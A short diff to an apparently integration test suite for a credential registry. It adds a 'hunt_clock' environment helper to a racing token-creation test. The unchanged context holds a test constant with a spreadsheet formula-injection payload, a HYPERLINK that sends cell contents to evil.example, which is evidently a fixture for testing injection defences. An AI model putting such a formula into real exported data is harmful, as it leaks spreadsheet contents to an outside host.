@@ -33,7 +33,7 @@ from registry.transparency import checkpoint_payload
 from tests.api.conftest import PASSPHRASE, body
 from tests.examples import HOLDER, issue_request
 from tests.integration.test_secrets import pkcs12_info
-from tests.processes import cli, server, settings_env
+from tests.processes import cli, hunt_clock, server, settings_env
 
 REVOCATION = {"reason": "k", "details": "主动", "effective_date": "2026-09-01"}
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -366,7 +366,7 @@ def test_the_server_answers_without_banner_cacheable_secrets_or_host_redirects(
 
 def test_two_token_creations_racing_for_one_name_leave_one(target: Target) -> None:
     command = [sys.executable, "-m", "registry.cli", "token", "create", "--role", "registrar"]
-    env = {"PATH": "/usr/bin:/bin", **settings_env(target.settings)}
+    env = {"PATH": "/usr/bin:/bin", **hunt_clock(), **settings_env(target.settings)}
     racers = [
         subprocess.Popen(
             [*command, "--name", "carol"], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE
